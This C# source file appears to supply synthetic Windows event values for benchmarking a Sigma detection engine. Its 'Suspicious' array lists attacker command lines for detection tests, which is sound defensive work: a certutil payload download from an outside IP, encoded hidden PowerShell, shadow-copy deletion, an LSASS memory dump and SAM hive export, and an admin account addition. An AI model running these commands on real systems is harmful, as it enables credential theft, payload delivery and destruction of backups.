namespace SigmaSharp.Benchmarks.Events;

/// <summary>Pools of realistic Windows values the generator draws from.</summary>
internal static class SyntheticEventValues
{
    public static readonly string[] Computers =
        [.. Enumerable.Range(1, 40).Select(i => $"WS{i:D3}.corp.example.com"), "DC01.corp.example.com", "DC02.corp.example.com", "SQL01.corp.example.com"];

    public static readonly string[] Users =
        ["CORP\\alice", "CORP\\bob", "CORP\\carol", "CORP\\dave", "CORP\\svc_backup", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\NETWORK SERVICE", "NT AUTHORITY\\LOCAL SERVICE", "CORP\\erin.admin"];

    /// <summary>A process image with one of its usual command lines and version resources.</summary>
    public sealed record Process(string Image, string CommandLine, string Description, string Product, string Company, string OriginalFileName);

    private const string WindowsProduct = "Microsoft® Windows® Operating System";
    private const string Microsoft = "Microsoft Corporation";

    private static readonly Process Services = new(@"C:\Windows\System32\services.exe", @"C:\Windows\system32\services.exe", "Services and Controller app", WindowsProduct, Microsoft, "services.exe");
    private static readonly Process Explorer = new(@"C:\Windows\explorer.exe", @"C:\Windows\Explorer.EXE", "Windows Explorer", WindowsProduct, Microsoft, "EXPLORER.EXE");
    private static readonly Process DcomLaunch = new(@"C:\Windows\System32\svchost.exe", @"C:\Windows\system32\svchost.exe -k DcomLaunch -p", "Host Process for Windows Services", WindowsProduct, Microsoft, "svchost.exe");
    private static readonly Process Schedule = new(@"C:\Windows\System32\svchost.exe", @"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule", "Host Process for Windows Services", WindowsProduct, Microsoft, "svchost.exe");
    private static readonly Process ChromeBrowser = new(@"C:\Program Files\Google\Chrome\Application\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe");
    private static readonly Process EdgeBrowser = new(@"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default", "Microsoft Edge", "Microsoft Edge", Microsoft, "msedge.exe");
    private static readonly Process Cmd = new(@"C:\Windows\System32\cmd.exe", @"C:\Windows\system32\cmd.exe /c ""C:\Program Files\Backup\run_nightly.cmd"" --target \\nas01\backups --retain 14", "Windows Command Processor", WindowsProduct, Microsoft, "Cmd.Exe");
    private static readonly Process SearchIndexer = new(@"C:\Windows\System32\SearchIndexer.exe", @"C:\Windows\system32\SearchIndexer.exe /Embedding", "Microsoft Windows Search Indexer", WindowsProduct, Microsoft, "SearchIndexer.exe");

    /// <summary>Benign process starts with the parent that usually starts them, so that rules about
    /// unusual parents (svchost not started by services.exe, shells started by browsers) stay quiet.</summary>
    public static readonly (Process Child, Process Parent)[] Launches =
    [
        (Schedule, Services),
        (DcomLaunch, Services),
        (new(@"C:\Program Files\Google\Chrome\Application\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --display-capture-permissions-policy-allowed --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=12 --time-ticks-at-unix-epoch=-1700000000000000 --launch-time-ticks=5241234567 --field-trial-handle=1996,i,7203816554019982311,5128834490716630075,262144 /prefetch:1", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"), ChromeBrowser),
        (ChromeBrowser, Explorer),
        (new(@"C:\Windows\System32\conhost.exe", @"\??\C:\Windows\system32\conhost.exe 0x4", "Console Window Host", WindowsProduct, Microsoft, "CONHOST.EXE"), Cmd),
        (new(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", "Windows PowerShell", WindowsProduct, Microsoft, "PowerShell.EXE"), Explorer),
        (new(@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle", "Microsoft Outlook", "Microsoft Office", Microsoft, "Outlook.exe"), Explorer),
        (new(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\alice\\Documents\\Q3 planning.docx\" /o \"\"", "Microsoft Word", "Microsoft Office", Microsoft, "WinWord.exe"), Explorer),
        (new(@"C:\Windows\System32\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}", "Host Process for Windows Tasks", WindowsProduct, Microsoft, "taskhostw.exe"), Schedule),
        (new(@"C:\Windows\System32\msiexec.exe", @"C:\Windows\system32\msiexec.exe /V", "Windows® installer", "Windows Installer - Unicode", Microsoft, "msiexec.exe"), Services),
        (new(@"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2412 --field-trial-handle=2256,i,4571209876543210,1230987654321,262144 /prefetch:3", "Microsoft Edge", "Microsoft Edge", Microsoft, "msedge.exe"), EdgeBrowser),
        (EdgeBrowser, Explorer),
        (Cmd, Schedule),
        (new(@"C:\Windows\System32\RuntimeBroker.exe", @"C:\Windows\System32\RuntimeBroker.exe -Embedding", "Runtime Broker", WindowsProduct, Microsoft, "RuntimeBroker.exe"), DcomLaunch),
        (new(@"C:\Windows\System32\dllhost.exe", @"C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", "COM Surrogate", WindowsProduct, Microsoft, "dllhost.exe"), DcomLaunch),
        (new(@"C:\Windows\System32\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", "Background Task Host", WindowsProduct, Microsoft, "backgroundTaskHost.exe"), DcomLaunch),
        (new(@"C:\Windows\System32\SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 \"Software\\Microsoft\\Windows Search\" \"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" \"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"", "Microsoft Windows Search Protocol Host", WindowsProduct, Microsoft, "SearchProtocolHost.exe"), SearchIndexer),
        (new(@"C:\Program Files\Microsoft OneDrive\OneDrive.exe", "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background", "Microsoft OneDrive", "Microsoft OneDrive", Microsoft, "OneDrive.exe"), Explorer),
        (new(@"C:\Windows\System32\wbem\WmiPrvSE.exe", @"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", "WMI Provider Host", WindowsProduct, Microsoft, "Wmiprvse.exe"), DcomLaunch),
    ];

    /// <summary>Where an attacker's commands start from: an interactive shell.</summary>
    public static readonly Process[] InteractiveShells = [Explorer, Cmd];

    /// <summary>Images of long-running processes that load DLLs, write files and registry values.</summary>
    public static readonly string[] Images =
    [
        @"C:\Windows\System32\svchost.exe", @"C:\Program Files\Google\Chrome\Application\chrome.exe", @"C:\Windows\explorer.exe",
        @"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", @"C:\Windows\System32\RuntimeBroker.exe",
        @"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", @"C:\Windows\System32\SearchIndexer.exe",
    ];

    /// <summary>Outbound connections as workstations make them: image, destination port, whether the destination is internal.</summary>
    public static readonly (string Image, int Port, bool Internal)[] Connections =
    [
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", 443, false),
        (@"C:\Program Files\Google\Chrome\Application\chrome.exe", 80, false),
        (@"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", 443, false),
        (@"C:\Windows\System32\svchost.exe", 443, false),
        (@"C:\Windows\System32\svchost.exe", 53, true),
        (@"C:\Windows\System32\svchost.exe", 135, true),
        (@"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", 443, true),
        (@"C:\Program Files\Microsoft OneDrive\OneDrive.exe", 443, false),
        (@"C:\Windows\System32\lsass.exe", 389, true),
        ("System", 445, true),
    ];

    /// <summary>Command lines public SigmaHQ process-creation rules detect.</summary>
    public static readonly (string Image, string CommandLine, string OriginalFileName)[] Suspicious =
    [
        (@"C:\Windows\System32\whoami.exe", "whoami /priv", "whoami.exe"),
        (@"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "VSSADMIN.EXE"),
        (@"C:\Windows\System32\certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.23/payload.exe C:\\Users\\Public\\p.exe", "CertUtil.exe"),
        (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "PowerShell.EXE"),
        (@"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full", "RUNDLL32.EXE"),
        (@"C:\Windows\System32\reg.exe", @"reg.exe save hklm\sam C:\Users\Public\sam.save", "reg.exe"),
        (@"C:\Windows\System32\wbem\WMIC.exe", "wmic.exe shadowcopy delete", "wmic.exe"),
        (@"C:\Windows\System32\net.exe", "net.exe localgroup administrators eviluser /add", "net.exe"),
    ];

    public static readonly string[] Dlls =
        [@"C:\Windows\System32\ntdll.dll", @"C:\Windows\System32\kernel32.dll", @"C:\Windows\System32\combase.dll", @"C:\Windows\System32\crypt32.dll", @"C:\Windows\System32\wininet.dll", @"C:\Windows\System32\amsi.dll", @"C:\Windows\System32\dbghelp.dll"];

    public static readonly string[] RegistryKeys =
    [
        @"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Windows\CurrentVersion\Explorer\FeatureUsage\AppSwitched\Microsoft.Windows.Explorer",
        @"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Office\16.0\Outlook\Profiles\Outlook\0a0d020000000000c000000000000046\LastChangeVer",
        @"HKU\S-1-5-21-1004336348-1177238915-682003330-1104\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx\MRUListEx",
        @"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1004336348-1177238915-682003330-1104\\Device\HarddiskVolume3\Windows\System32\svchost.exe",
        @"HKLM\SOFTWARE\Microsoft\Windows Defender\Features\TamperProtection",
    ];

    public static readonly string[] FileTargets =
    [
        @"C:\Users\alice\AppData\Local\Temp\~DF3A1B2C4D5E6F70.TMP",
        @"C:\Users\bob\Downloads\Q3_financials_final_v2.xlsx",
        @"C:\Windows\Prefetch\CHROME.EXE-5C7B1D2E.pf",
        @"C:\ProgramData\Microsoft\Windows Defender\Scans\History\Service\DetectionHistory\02\7A1B2C3D-4E5F-6071-8293-A4B5C6D7E8F9",
    ];

    /// <summary>Rule names as the widely used sysmon-modular configuration writes them.</summary>
    public static readonly string[] RuleNames =
    [
        "-", "technique_id=T1036,technique_name=Masquerading", "technique_id=T1059.001,technique_name=PowerShell",
        "technique_id=T1547.001,technique_name=Registry Run Keys / Start Folder", "technique_id=T1204,technique_name=User Execution",
    ];

}
